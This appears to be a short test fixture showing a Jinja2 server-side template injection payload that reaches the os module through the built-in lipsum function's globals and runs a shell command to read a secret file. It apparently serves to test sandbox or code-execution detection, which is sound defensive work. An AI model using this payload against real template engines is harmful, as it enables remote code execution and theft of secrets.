# A template walks from one of jinja2's own functions to the modules behind it.
# effect: run
# tree: scientific
import jinja2
jinja2.Template("{{ lipsum.__globals__.os.system('cat @SECRET@') }}").render()
